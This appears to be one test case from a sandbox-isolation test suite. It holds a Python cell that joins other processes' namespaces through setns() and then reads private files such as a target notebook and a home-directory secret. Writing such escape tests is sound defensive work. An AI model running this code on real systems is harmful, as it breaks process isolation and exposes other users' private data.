"""The namespaces of the first process, of parents and of siblings are joined."""

kind = "user-namespace and mount tricks"
aims = "read prove"
cell = """
import ctypes, glob, os

libc = ctypes.CDLL(None, use_errno=True)
mine = {name: os.stat(f"/proc/self/ns/{name}").st_ino for name in ("mnt", "pid", "net", "user")}
for path in sorted(glob.glob("/proc/[0-9]*/ns/*")):
    name = path.rsplit("/", 1)[1]
    try:
        if name in mine and os.stat(path).st_ino != mine[name]:
            if libc.setns(os.open(path, os.O_RDONLY), 0) == 0:
                print("<<proof>>", path)
                for secret in ("<<course>>/source/target/target.ipynb", "<<home>>/private.txt"):
                    print(open(secret).read())
    except OSError:
        pass
"""
